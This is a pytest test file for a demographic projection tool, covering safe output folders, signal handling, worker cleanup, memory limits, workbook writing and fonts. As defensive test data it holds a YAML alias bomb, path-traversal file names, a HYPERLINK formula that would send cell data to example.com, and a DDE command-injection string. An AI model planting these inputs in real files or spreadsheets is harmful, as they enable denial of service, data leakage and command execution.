"""Never lose a user's file, never hang, never leak (issue 14): output folders, names,
reuse of earlier runs, signals and worker processes, hostile YAML, memory, workbooks, fonts."""

import json
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from conftest import BASE, cli
from model.errors import ScenarioError
from model.scenario import load_scenario
from model.folders import MARKER, folder_files, read_manifest

QUICK = "stages: []\noutputs: {charts: false}\n"   # the population alone: these tests are about files


def scenario_file(folder: Path, text: str = "", name: str = "quick.yaml", quick: str = QUICK) -> Path:
    path = folder / name
    path.write_text(f"extends: {BASE}\n{quick}{text}", encoding="utf-8")
    return path


# --------------------------------------------------------------------------- 1. names


def test_a_name_is_one_folder_and_chinese_names_are_fine(tmp_path):
    keep = tmp_path / "keep.txt"
    keep.write_text("mine")
    for bad in ("..", ".", "a/b", "../up", ".hidden", "nul\x00"):
        path = scenario_file(tmp_path, f"name: {json.dumps(bad)}\n", "bad.yaml")
        result = cli("run", path, cwd=tmp_path)
        assert result.returncode == 2 and "name:" in result.stderr and "--out" not in result.stderr, (bad, result.stderr)
    assert keep.read_text() == "mine" and sorted(p.name for p in tmp_path.iterdir()) == ["bad.yaml", "keep.txt"]
    chinese = scenario_file(tmp_path, "name: 我的情景\n", "chinese.yaml")
    result = cli("run", chinese, "-q", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert read_manifest(tmp_path / "outputs" / "我的情景")["scenario"] == "我的情景"


# --------------------------------------------------------------------------- 2. replacing only our own files


def test_a_stray_manifest_does_not_make_a_folder_replaceable(tmp_path):
    folder = tmp_path / "site"
    folder.mkdir()
    (folder / "manifest.json").write_text('{"name": "my web app", "files": []}')
    (folder / "index.html").write_text("<p>mine</p>")
    result = cli("run", scenario_file(tmp_path), "--out", folder, "-q")
    assert result.returncode == 2 and "does not hold earlier silverplan results" in result.stderr
    assert (folder / "index.html").read_text() == "<p>mine</p>"


@pytest.mark.parametrize("extra", ["NOTES.txt", "mine/notes.txt", "empty_folder/"])
def test_a_users_file_inside_old_results_stops_the_run_and_survives(tmp_path, extra):
    quick, out = scenario_file(tmp_path), tmp_path / "out"
    assert cli("run", quick, "--out", out, "-q").returncode == 0
    target = out / extra.rstrip("/")
    if extra.endswith("/"):
        target.mkdir()
    else:
        target.parent.mkdir(exist_ok=True)
        target.write_text("keep me")
    result = cli("run", quick, "--out", out, "-q", "--seed", "3")
    assert result.returncode == 2 and "holds files silverplan did not write" in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "--out" in result.stderr
    assert target.exists() and (extra.endswith("/") or target.read_text() == "keep me")
    assert read_manifest(out)["seed"] == 20201101  # the old results were not replaced either


def test_other_commands_never_replace_a_folder_holding_a_users_file(tmp_path):
    quick = scenario_file(tmp_path)
    other = scenario_file(tmp_path, "name: other\ncare: {beds: {values: 40000, unit: beds}}\n", "other.yaml")
    assert cli("compare", quick, other, "--out", "cmp", "-q", cwd=tmp_path).returncode == 0
    assert read_manifest(tmp_path / "cmp")["kind"] == "comparison"
    (tmp_path / "cmp" / "NOTES.txt").write_text("keep me")
    again = cli("compare", quick, other, "--out", "cmp", "-q", cwd=tmp_path)
    assert again.returncode == 2 and "--out" in again.stderr and (tmp_path / "cmp" / "NOTES.txt").exists()
    sens = tmp_path / "sens"
    sens.mkdir()
    (sens / "sensitivity.csv").write_text("not silverplan's")
    result = cli("sensitivity", quick, "--out", sens, "-q")
    assert result.returncode == 2 and (sens / "sensitivity.csv").read_text() == "not silverplan's"


def test_rerunning_replaces_every_file_of_the_old_results(tmp_path):
    quick, out = scenario_file(tmp_path), tmp_path / "out"
    assert cli("run", quick, "--out", out, "-q").returncode == 0
    (out / "population.csv").write_text("edited by hand")  # a listed file: silverplan's, replaced
    assert cli("run", quick, "--out", out, "-q", "--seed", "5").returncode == 0
    manifest = read_manifest(out)
    assert manifest["seed"] == 5 and folder_files(out) == manifest["files"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "quick.yaml"]  # nothing moved aside is left


# --------------------------------------------------------------------------- 3. which folder a run writes


def test_the_default_folder_follows_the_file_and_the_command_line(tmp_path):
    overlay = scenario_file(tmp_path, name="my_case.yaml")  # no name: of its own
    assert load_scenario(overlay).name == "my_case"  # not base's name, inherited through extends
    assert cli("run", overlay, "-q", cwd=tmp_path).returncode == 0
    assert cli("run", overlay, "-q", "--lang", "en", cwd=tmp_path).returncode == 0
    assert cli("run", overlay, "-q", "--seed", "7", cwd=tmp_path).returncode == 0
    assert cli("run", overlay, "-q", "--lang", "zh", cwd=tmp_path).returncode == 0  # its own language: no suffix
    assert sorted(p.name for p in (tmp_path / "outputs").iterdir()) == ["my_case", "my_case_en", "my_case_seed7"]
    assert read_manifest(tmp_path / "outputs" / "my_case")["config"]["outputs"]["lang"] == "zh"
    # A run that replaces results of another configuration says so on stderr.
    overlay.write_text(overlay.read_text() + "care: {occupancy: 0.8}\n", encoding="utf-8")
    changed = cli("run", overlay, "-q", cwd=tmp_path)
    assert changed.returncode == 0 and "note: " in changed.stderr and "another configuration" in changed.stderr
    same = cli("run", overlay, "-q", cwd=tmp_path)
    assert same.returncode == 0 and "note:" not in same.stderr


# --------------------------------------------------------------------------- 4. reuse only intact runs


def test_compare_reruns_a_damaged_earlier_run(tmp_path):
    first = scenario_file(tmp_path, "name: first\n", "first.yaml")
    second = scenario_file(tmp_path, "name: second\n", "second.yaml")
    assert cli("compare", first, second, "-q", cwd=tmp_path).returncode == 0
    indicators = tmp_path / "outputs" / "first" / "indicators.csv"
    good = pd.read_csv(indicators)
    indicators.write_text(indicators.read_text()[:200])  # truncated after it was written
    assert cli("compare", first, second, "-q", cwd=tmp_path).returncode == 0
    pd.testing.assert_frame_equal(pd.read_csv(indicators), good)
    table = pd.read_csv(tmp_path / "outputs" / "compare_first_second" / "comparison.csv")
    assert table.query("scenario == 'first' and indicator == 'population_total'")["value"].notna().all()


# --------------------------------------------------------------------------- 5, 6. signals and workers


def _wait_for(condition, seconds: float = 120.0, step: float = 0.01):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        found = condition()
        if found:
            return found
        time.sleep(step)
    raise AssertionError("timed out")


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP, signal.SIGINT])
def test_a_signal_while_writing_leaves_no_staging_folder(tmp_path, signum):
    quick = tmp_path / "quick.yaml"
    quick.write_text(f"extends: {BASE}\nstages: [pension, care]\n", encoding="utf-8")  # with charts: a long write
    # Ctrl-C as in a terminal's foreground job: a job started with `&` inherits SIGINT ignored
    # (and Python keeps it ignored), which would say nothing about the run.
    process = subprocess.Popen([sys.executable, "-m", "model", "run", str(quick), "--out", str(tmp_path / "out"), "-q"],
                               stderr=subprocess.PIPE, text=True,
                               preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    staging = _wait_for(lambda: [p for p in tmp_path.iterdir() if p.name.startswith(".out.tmp-")])
    process.send_signal(signum)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 1 and "interrupted" in err and "Traceback" not in err, err
    assert not staging[0].exists() and sorted(p.name for p in tmp_path.iterdir()) == ["quick.yaml"]


def test_staging_folders_of_killed_runs_are_removed_by_the_next_run_and_nothing_else(tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    pid = int(dead.stdout)
    import socket

    abandoned = tmp_path / ".out.tmp-abc123"
    abandoned.mkdir()
    (abandoned / "population.csv").write_text("half written")
    (abandoned / MARKER).write_text(json.dumps({"pid": pid, "host": socket.gethostname()}))
    lookalike = tmp_path / ".out.tmp-mine"  # same pattern, no marker: not ours
    lookalike.mkdir()
    (lookalike / "notes.txt").write_text("keep me")
    assert cli("run", scenario_file(tmp_path), "--out", tmp_path / "out", "-q").returncode == 0
    assert not abandoned.exists() and (lookalike / "notes.txt").read_text() == "keep me"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGKILL])
def test_worker_processes_end_with_their_parent(tmp_path, signum):
    scenario = tmp_path / "abm.yaml"
    scenario.write_text(f"extends: {BASE}\nabm: {{scale: 2, replicates: 4, processes: 2}}\noutputs: {{charts: false}}\n",
                        encoding="utf-8")
    process = subprocess.Popen([sys.executable, "-m", "model", "run", str(scenario), "--out", str(tmp_path / "out"),
                                "-q"], stderr=subprocess.PIPE, text=True)
    workers = _wait_for(lambda: [c for c in _children(process.pid)
                                 if "spawn_main" in Path(f"/proc/{c}/cmdline").read_text(errors="replace")
                                 and "resource_tracker" not in Path(f"/proc/{c}/cmdline").read_text(errors="replace")])
    time.sleep(0.5)  # the workers are busy with replicates
    process.send_signal(signum)
    process.communicate(timeout=60)
    _wait_for(lambda: not any(_alive(worker) for worker in workers), seconds=10, step=0.1)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.") and signum == signal.SIGTERM]


# --------------------------------------------------------------------------- 7, 9. hostile or careless YAML


def test_a_yaml_bomb_is_refused_within_a_second(tmp_path):
    lines = [f"extends: {BASE}", "a0: &a0 {x: 1, y: 2}"]
    lines += [f"a{i}: &a{i} {{p: *a{i - 1}, q: *a{i - 1}, r: *a{i - 1}, <<: *a{i - 1}}}" for i in range(1, 40)]
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines), encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(ScenarioError, match="expands to more than 100,000 values"):
        load_scenario(bomb)
    assert time.perf_counter() - started < 1.0
    big = tmp_path / "big.yaml"
    big.write_text("# padding\n" * 200_000, encoding="utf-8")
    with pytest.raises(ScenarioError, match="too large for a scenario file"):
        load_scenario(big)


def test_merge_keys_may_override_and_an_alias_or_two_still_work(tmp_path):
    path = tmp_path / "aliases.yaml"
    path.write_text(f"extends: {BASE}\nname: aliases\nmixes: &shares {{home: 0.6, community: 0.1, institution: 0.3}}\n",
                    encoding="utf-8")
    with pytest.raises(ScenarioError, match="mixes: unknown key"):  # parsed fine; refused as a setting
        load_scenario(path)
    path.write_text(f"extends: {BASE}\ncare:\n  mix:\n    severe: &s {{home: 0.6, community: 0.1, institution: 0.3}}\n"
                    "    mild: {<<: *s, home: 0.7, community: 0.0}\n", encoding="utf-8")
    scenario = load_scenario(path)
    assert float(scenario.care.mix["mild"].home.values) == 0.7 and float(scenario.care.mix["mild"].institution.values) == 0.3


# --------------------------------------------------------------------------- 8. memory


def test_trials_that_would_not_fit_in_memory_are_refused_in_one_line(tmp_path):
    path = scenario_file(tmp_path, "years: {base: 2020, end: 2100}\n", quick="stages: [pension, care]\n")
    started = time.perf_counter()
    result = cli("run", path, "--trials", "100000", "-q", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert result.stderr.startswith("error: --trials: 100,000 trials would keep about ") and "at most" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and time.perf_counter() - started < 30
    assert not (tmp_path / "outputs").exists()


def test_trials_run_in_chunks_of_flat_memory():
    from model.uncertainty import TRIALS_PER_CHUNK, memory_needed, project_trials

    scenario = load_scenario(BASE, {"stages": ["pension"], "years": {"end": 2024}})
    values = project_trials(scenario, TRIALS_PER_CHUNK + 7, processes=1)
    assert all(matrix.shape[0] == TRIALS_PER_CHUNK + 7 for matrix in values.values())
    assert memory_needed(2000, 100) - memory_needed(1000, 100) == memory_needed(1000, 100) - memory_needed(0, 100)


# --------------------------------------------------------------------------- 11. workbooks hold text as text


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    from openpyxl import load_workbook

    from model.workbook import write_workbook

    path = scenario_file(tmp_path, 'care: {occupancy: {values: 0.85, unit: fraction, '
                                   'source: "=HYPERLINK(\\"http://example.com/?\\"&A1,\\"click\\")"}}\n')
    out = tmp_path / "out"
    assert cli("run", path, "--out", out, "-q").returncode == 0
    book = load_workbook(out / "results.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    source = next(cell for cell in cells if isinstance(cell.value, str) and "=HYPERLINK" in cell.value)
    assert source.data_type == "s"
    # Text that starts like a formula, in any workbook the writer makes: stored as text, marked.
    tricky = ["=1+1", "+cmd|' /C calc'!A0", "-2 yuan", "@SUM(A1)"]
    write_workbook({"sweep": pd.DataFrame({"parameter": tricky, "value": [1, 2, 3, 4]})}, tmp_path / "t.xlsx", "en")
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == tricky
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


# --------------------------------------------------------------------------- 13. options named as typed


def test_option_errors_name_the_option_and_exit_2(tmp_path):
    quick = scenario_file(tmp_path)
    (tmp_path / "afile").write_text("a file")
    result = cli("run", quick, "--out", tmp_path / "afile" / "sub", "-q")
    assert result.returncode == 2 and result.stderr.startswith(f"error: --out {tmp_path / 'afile' / 'sub'}: ")
    sweep = tmp_path / "sweep.yaml"
    sweep.write_text(yaml.safe_dump({"scenario": str(quick), "grid": {"care.beds": [30000]}}), encoding="utf-8")
    result = cli("sweep", sweep, "--scheduler", "not a url", "-q")
    assert result.returncode == 2 and result.stderr.startswith("error: --scheduler not a url: is not a Dask scheduler")


# --------------------------------------------------------------------------- 14. fonts installed after a first run


def test_a_cjk_font_installed_after_the_font_list_was_cached_is_found(monkeypatch):
    from matplotlib import font_manager

    from model import charts

    manager = font_manager.fontManager
    if not any("CJK" in font.name for font in manager.ttflist) and not charts.cjk_font():
        pytest.skip("no CJK font on this machine (apt-get install fonts-noto-cjk; .ci/run does)")
    monkeypatch.setattr(manager, "ttflist", [font for font in manager.ttflist if "CJK" not in font.name])
    monkeypatch.setattr(font_manager, "json_dump", lambda *args: None)  # leave the real cache alone
    charts.cjk_font.cache_clear()
    try:
        assert charts.cjk_font() is not None  # found by scanning the system's fonts again
        assert charts.chart_language("zh") == ("zh", None)
    finally:
        charts.cjk_font.cache_clear()
